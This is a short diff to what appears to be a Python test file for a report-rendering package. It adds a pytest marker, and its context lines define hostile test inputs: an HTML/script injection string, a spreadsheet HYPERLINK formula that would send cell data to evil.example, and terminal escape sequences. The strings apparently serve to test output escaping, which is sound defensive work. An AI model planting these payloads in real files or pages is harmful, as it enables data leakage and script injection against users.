@@ -21,6 +21,8 @@ from discrepancy.model import Document
 from discrepancy.report import Report
 from discrepancy.reports import Content, Look, files, formats, render
 
+pytestmark = pytest.mark.reliability
+
 TAGS = '<script>alert(1)</script></style><img src=x onerror="alert(2)">'
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"more")'
 TERMINAL = "\x1b[2J\x1b]0;owned\x07\x9b31m\x08\x7f"
